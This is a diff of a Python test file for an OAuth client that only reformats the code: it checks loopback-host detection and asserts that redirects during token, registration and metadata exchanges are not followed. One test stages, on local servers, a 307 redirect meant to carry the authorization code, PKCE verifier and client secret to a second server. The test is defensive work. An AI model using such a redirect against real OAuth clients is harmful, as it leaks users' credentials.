         check_url(url, "the token_endpoint", referrer="https://as.example")
     assert names_this_machine(urlsplit(url).hostname)
     assert check_url(url, "the token_endpoint", referrer="http://127.0.0.1:9/mcp") == url
-    for host in ("as.example", "1.2.3.4", "10.0.0.1", "cafe.face", "0xdeadbeef.example", "128.0.0.1", "[2001:db8::1]"):
+    for host in (
+        "as.example",
+        "1.2.3.4",
+        "10.0.0.1",
+        "cafe.face",
+        "0xdeadbeef.example",
+        "128.0.0.1",
+        "[2001:db8::1]",
+    ):
         assert not names_this_machine(urlsplit(f"https://{host}/").hostname), host
         assert check_url(f"https://{host}/token", "x", referrer="https://as.example")
 
 
-@pytest.mark.parametrize("path, kind", [
-    (PRM_PATH, MetadataError), (AS_PATH, MetadataError),
-    ("/oauth/register", RegistrationError), ("/oauth/token", TokenError),
-], ids=["resource-metadata", "as-metadata", "registration", "token"])
+@pytest.mark.parametrize(
+    "path, kind",
+    [
+        (PRM_PATH, MetadataError),
+        (AS_PATH, MetadataError),
+        ("/oauth/register", RegistrationError),
+        ("/oauth/token", TokenError),
+    ],
+    ids=["resource-metadata", "as-metadata", "registration", "token"],
+)
 def test_a_redirect_in_any_authorization_exchange_is_not_followed(caplog, path, kind):
     """Every exchange with the authorization server (and the metadata GETs) follows no redirect: a 307
     on the token POST would carry the code, the PKCE verifier and the client secret to its target.
@@ -863,21 +1118,27 @@ def test_a_redirect_in_any_authorization_exchange_is_not_followed(caplog, path, 
 
     def b_app(environ, start_response):
         seen_by_b.append(environ["PATH_INFO"])
-        return _answer(start_response, 200, {"issuer": "x", "access_token": "stolen", "token_type": "Bearer"})
+        return _answer(
+            start_response, 200, {"issuer": "x", "access_token": "stolen", "token_type": "Bearer"}
+        )
 
     redirect = {"on": True}
 
     def front(environ, start_response):
         if redirect["on"] and environ["PATH_INFO"] == path:
             environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0))
-            return _answer(start_response, 307, b"", "text/plain", [("Location", b_httpd.url + path)])
+            return _answer(
+                start_response, 307, b"", "text/plain", [("Location", b_httpd.url + path)]
+            )
         return mischief(environ, start_response)
 
     servers = [WsgiServer(("127.0.0.1", 0), app) for app in (b_app, front)]
     b_httpd, a_httpd = servers
     mischief.origin = a_httpd.url
     for httpd in servers:
-        threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
+        threading.Thread(
+            target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
+        ).start()
     try:
         exc = refused(mischief, caplog, kind)
         assert "redirect" in str(exc) and seen_by_b == []
